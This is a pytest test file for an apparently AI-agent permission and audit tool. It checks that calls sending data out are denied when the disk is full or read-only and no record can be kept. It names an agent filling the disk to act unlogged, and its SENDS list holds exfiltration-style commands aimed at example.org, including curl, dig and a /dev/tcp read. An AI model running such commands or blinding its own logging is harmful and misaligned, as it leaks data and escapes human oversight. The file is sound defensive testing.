"""
A disk that cannot be written: what an agent could make of it.

An agent can fill the disk. Whatever runs while no record can be written leaves no trace, so it
must not be able to change anything or to tell anybody what it has read.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from proctor.owner.client import Client
from proctor.terms.verdict import NOT_KEPT, NOTHING_RUNS
from tests.amounts import amount
from tests.attacks.small_disk import fill, inside, make_room, mount_again
from tests.hook.conftest import rig as hook_rig
from tests.hook.rig import ATTENDED, Rig
from tests.server.running import call, running, until
from tests.server.test_faults import full_disk

OPEN = """\
description: May do everything
tools: ["*"]
permissions: {allow: ["*", "mcp__*"], otherwise: allow}
"""
SENDS: list[tuple[str, dict[str, Any]]] = [
    ("WebSearch", {"query": "what I have read"}),
    ("WebFetch", {"url": "https://example.org/?q=what-I-have-read"}),
    ("mcp__notes__read", {"name": "what I have read"}),
    ("ReadMcpResource", {"server": "notes", "uri": "notes://what-I-have-read"}),
    ("ListMcpResources", {"server": "what-I-have-read"}),
    ("lookup", {"name": "what I have read"}),
    ("Bash", {"command": "curl -s https://example.org/what-I-have-read"}),
    ("Bash", {"command": "dig what-I-have-read.example.org"}),
    ("Bash", {"command": "gh search issues what-I-have-read"}),
    ("Bash", {"command": "npm view what-I-have-read"}),
    ("Bash", {"command": "git ls-remote https://example.org/what-I-have-read"}),
    ("Bash", {"command": "ls; gh pr view 1"}),
    ("Bash", {"command": "cat < /dev/tcp/example.org/80"}),
    ("Bash", {"command": "echo $(dig what-I-have-read.example.org)"}),
    ("Bash", {"command": "f() { npm view x; }; f"}),
    ("Task", {"subagent_type": "general-purpose", "prompt": "tell everybody"}),
    ("Write", {"file_path": "a.txt", "content": "x"}),
    ("Bash", {"command": "./what-nobody-knows"}),
]
READS: list[tuple[str, dict[str, Any]]] = [
    ("Read", {"file_path": "a.txt"}),
    ("Grep", {"pattern": "x", "path": "."}),
    ("Bash", {"command": "ls -l && git status"}),
    ("TodoWrite", {"todos": []}),
]
EVERYTHING = [*SENDS, *READS]
rig = hook_rig


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """Give a home with a role that allows everything."""
    home = tmp_path / "home"
    (home / "roles").mkdir(parents=True)
    (home / "roles" / "all.yaml").write_text(OPEN)
    (tmp_path / "shop" / ".git").mkdir(parents=True)
    return home


def verdicts(home: Path, calls: list[tuple[str, dict[str, Any]]]) -> list[tuple[str, str]]:
    """Return what the server decides about calls, and why."""
    found = []
    with Client.connect(home) as client:
        for tool, given in calls:
            said = client.call(
                "decide", tool=tool, input=given, cwd=str(home.parent / "shop"), role="all"
            )
            found.append((said["effect"], said["why"]))
    return found


def test_nothing_is_sent_out_on_a_full_disk(home: Path) -> None:
    """Everything is allowed by its role; without a record only plain reads run."""
    with running(home) as server:
        assert {effect for effect, _ in verdicts(home, EVERYTHING)} == {"allow"}
        with full_disk(server):
            sent, read = verdicts(home, SENDS), verdicts(home, READS)

    assert [
        call for call, said in zip(SENDS, sent, strict=True) if said != ("deny", NOT_KEPT)
    ] == []
    assert {effect for effect, _ in read} == {"allow"}


def test_nothing_at_all_runs_where_the_config_says_so(home: Path) -> None:
    """With `unrecorded: refuse` reads are refused too, also where a server runs already."""
    with running(home) as server:
        verdicts(home, READS)
        (home / "config.yaml").write_text("unrecorded: refuse\n")
        assert {effect for effect, _ in verdicts(home, EVERYTHING)} == {"allow"}
        with full_disk(server):
            # The file is looked at again a moment after it has changed.
            until(lambda: verdicts(home, READS)[0][0] == "deny")
            assert set(verdicts(home, EVERYTHING)) == {("deny", NOTHING_RUNS)}


def test_a_project_cannot_loosen_it(home: Path) -> None:
    """A repository's own config says nothing about it."""
    (home / "config.yaml").write_text("unrecorded: refuse\n")
    own = home.parent / "shop" / ".proctor"
    own.mkdir()
    (own / "config.yaml").write_text("unrecorded: reads\n")
    with running(home) as server:
        assert {effect for effect, _ in verdicts(home, READS)} == {"allow"}
        with full_disk(server):
            assert set(verdicts(home, READS)) == {("deny", NOTHING_RUNS)}


@contextmanager
def unwritable(home: Path) -> Iterator[None]:
    """Let neither a record nor a server's socket be written in a home."""
    shutil.rmtree(home / "spool", ignore_errors=True)
    (home / "spool").write_text("")
    (home / "logs").write_text("")
    yield
    for name in ("spool", "logs"):
        (home / name).unlink()


def hooked(rig: Rig, tool: str, given: dict[str, Any], env: dict[str, str] | None) -> str:
    """Return what a hook without a server decides."""
    return rig.run(rig.event(tool_name=tool, tool_input=given), env).decision


@pytest.mark.parametrize("env", [None, ATTENDED], ids=["headless", "attended"])
def test_a_hook_without_a_server_sends_nothing_out(rig: Rig, env: dict[str, str] | None) -> None:
    """It is the same where no server can be had; the program's own dialog is no way round."""
    (rig.home / "roles").mkdir()
    (rig.home / "roles" / "all.yaml").write_text(OPEN)
    rig.install(role="all", ask_holds=True)
    tried = (SENDS[0], SENDS[8])
    with unwritable(rig.home):
        assert [hooked(rig, *call, env) for call in tried] == ["deny", "deny"]
        assert hooked(rig, *READS[0], env) == "allow"
        (rig.home / "config.yaml").write_text("unrecorded: refuse\n")
        assert hooked(rig, *READS[0], env) == "deny"


def test_a_dialog_without_a_record_is_no_way_round(rig: Rig) -> None:
    """What would be left to the program's dialog is refused, where nothing can be kept of it."""
    rig.install(role="guarded", ask_holds=True)
    with unwritable(rig.home):
        assert hooked(rig, *SENDS[1], ATTENDED) == "deny"
        assert os.path.getsize(rig.home / "spool") == 0  # noqa: PTH202 - plain


# A file system that is full, or read-only, for real.


def plain_home(place: Path, unrecorded: str) -> Path:
    """Write a role that allows everything, and what runs without a record."""
    home = place / "home"
    (home / "roles").mkdir()
    (home / "roles" / "all.yaml").write_text(OPEN)
    (home / "config.yaml").write_text(f"unrecorded: {unrecorded}\n")
    return home


def status_of(home: Path) -> dict[str, Any]:
    """Return what the server says of itself."""
    with Client.connect(home) as client:
        return dict(client.call("status"))


def fill_and_try(place: Path, unrecorded: str) -> dict[str, Any]:
    """Have calls decided before the disk is full, while it is, and when there is room again."""
    home = plain_home(place, unrecorded)
    with running(home) as server:
        allowed = [effect for effect, _ in verdicts(home, EVERYTHING)]
        fill(home)
        # The last page of a file may still have room for a record.
        until(lambda: "allow" not in note(allowed, verdicts(home, SENDS)))
        sent, read = verdicts(home, SENDS), verdicts(home, READS)
        trouble = str(status_of(home)["trouble"])
        make_room(home)
        until(lambda: "deny" not in note(allowed, verdicts(home, EVERYTHING)))
        until(lambda: status_of(home)["trouble"] is None)
        ended = server.process.poll()
    verified = call(home, "audit", "verify", "--json")
    return {
        "sent": sorted(set(sent)),
        "read": sorted(set(read)),
        "trouble": "no room left" in trouble and "spool" in trouble,
        "ended": ended,
        "verified": verified.returncode,
        "unrecorded": allowed.count("allow") - json.loads(verified.stdout)["records"],
    }


def note(allowed: list[str], said: list[tuple[str, str]]) -> list[str]:
    """Add the effects of some calls to those of before, and return them."""
    effects = [effect for effect, _ in said]
    allowed += effects
    return effects


@pytest.mark.parametrize("unrecorded", ["reads", pytest.param("refuse", marks=pytest.mark.full)])
def test_full_file_system_lets_nothing_out_until_there_is_room(
    tmp_path: Path, unrecorded: str
) -> None:
    """All that was allowed is on record, but for plain reads; afterwards it is as before."""
    (tmp_path / "shop" / ".git").mkdir(parents=True)
    found = inside(fill_and_try, tmp_path, unrecorded)

    reads = unrecorded == "reads"
    assert found == {
        "sent": [["deny", NOT_KEPT if reads else NOTHING_RUNS]],
        "read": [["allow", "allowed by the rule *"] if reads else ["deny", NOTHING_RUNS]],
        "trouble": True,
        "ended": None,
        "verified": 0,
        "unrecorded": 0,
    }


def hook_alone(place: Path) -> dict[str, list[str]]:
    """Run the hook where neither a server nor a spool can write, and where they can again."""
    home = plain_home(place, "reads")
    rig = Rig(home, place / "shop", place / "hooks" / "claude-code")
    rig.install(role="all", ask_holds=True)
    config = home / "config.yaml"
    # Each time a server is tried in vain; `test_a_hook_without_a_server` has more calls.
    tried = amount(1, 4)
    sends = (SENDS[2], SENDS[0], SENDS[1], SENDS[6])[:tried]

    def found(*calls: tuple[str, dict[str, Any]]) -> list[str]:
        return sorted({hooked(rig, *call, ATTENDED) for call in calls})

    said = {}
    mount_again(home, "ro")
    said["ro, sent"], said["ro, read"] = found(*sends), found(READS[0])
    mount_again(home, "rw")
    fill(home)
    said["full, sent"], said["full, read"] = found(*sends), found(READS[0])
    make_room(home)
    config.write_text("unrecorded: refuse\n")
    fill(home)
    said["refused"] = found(READS[0])
    make_room(home)
    said["room"] = found(*sends, READS[0])
    call(home, "down")
    return said


def test_hook_on_a_file_system_without_room_lets_nothing_out(tmp_path: Path) -> None:
    """It is the same where the file system was full or read-only before a server could start."""
    (tmp_path / "shop" / ".git").mkdir(parents=True)

    assert inside(hook_alone, tmp_path) == {
        "ro, sent": ["deny"],
        "ro, read": ["allow"],
        "full, sent": ["deny"],
        "full, read": ["allow"],
        "refused": ["deny"],
        "room": ["allow"],
    }
